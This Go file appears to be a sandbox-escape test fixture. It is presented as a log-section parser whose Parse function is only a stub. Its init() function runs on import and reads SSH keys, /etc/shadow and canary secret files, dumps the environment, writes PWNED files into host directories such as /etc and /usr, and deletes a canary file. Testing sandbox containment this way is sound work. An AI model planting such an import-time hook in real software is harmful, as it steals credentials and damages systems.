// Adversarial submission __MARKER__: from init(), reads host secrets ($HOME/.ssh, /etc/shadow, the canary files,
// the project's own files), dumps its environment, and tries to write, touch and delete outside its work dir.
package logsections

import (
	"fmt"
	"os"
	"time"
)

type Section struct {
	Name  string
	Start int64
	End   int64
	Depth int
	Lines int
}

func report(what string, data []byte, err error) {
	if err != nil {
		fmt.Fprintf(os.Stderr, "FS %s: FAIL %v\n", what, err)
		return
	}
	if len(data) > 200 {
		data = data[:200]
	}
	fmt.Fprintf(os.Stderr, "FS %s: OK %q\n", what, data)
}

func init() {
	for _, p := range []string{"__HOST_HOME__/.ssh/authorized_keys", "/etc/shadow", "__CANARY_TMP__/SECRET.txt", "__CANARY_HOME__/SECRET.txt", "__REPO__/package.json"} {
		b, err := os.ReadFile(p)
		report("read "+p, b, err)
	}
	fmt.Fprintf(os.Stderr, "FS env: %q\n", os.Environ())
	for _, p := range []string{"__CANARY_TMP__", "__CANARY_HOME__", "__HOST_HOME__", "__REPO__", "/etc", "/usr"} {
		report("write-host "+p+"/PWNED", nil, os.WriteFile(p+"/PWNED-__MARKER__", []byte("x"), 0o644))
	}
	// These resolve inside the sandbox's own /tmp (a throwaway tmpfs): they may succeed there, never on the host.
	for _, p := range []string{"__TMPDIR__", "..", "../.."} {
		report("write-private "+p+"/PWNED", nil, os.WriteFile(p+"/PWNED-__MARKER__", []byte("x"), 0o644))
	}
	report("touch canary", nil, os.Chtimes("__CANARY_TMP__/SECRET.txt", time.Unix(0, 0), time.Unix(0, 0)))
	report("delete canary", nil, os.Remove("__CANARY_HOME__/SECRET.txt"))
}

func Parse(log string) ([]Section, error) {
	return nil, nil
}
